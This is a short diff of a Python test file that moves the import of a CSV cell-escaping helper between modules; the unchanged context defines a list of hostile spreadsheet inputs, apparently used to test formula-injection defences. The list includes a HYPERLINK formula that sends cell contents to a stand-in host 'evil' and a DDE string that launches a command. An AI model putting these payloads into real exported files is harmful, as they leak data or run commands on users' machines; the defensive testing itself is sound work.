@@ -10,8 +10,8 @@ import pandas as pd
 
 from ragviz.cli.main import main
 from ragviz.data.load import load
-from ragviz.data.records import csv_cell
 from ragviz.export.files import export_bytes
+from ragviz.export.records import csv_cell
 from ragviz.ui.compare import diff_csv
 
 HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1"]
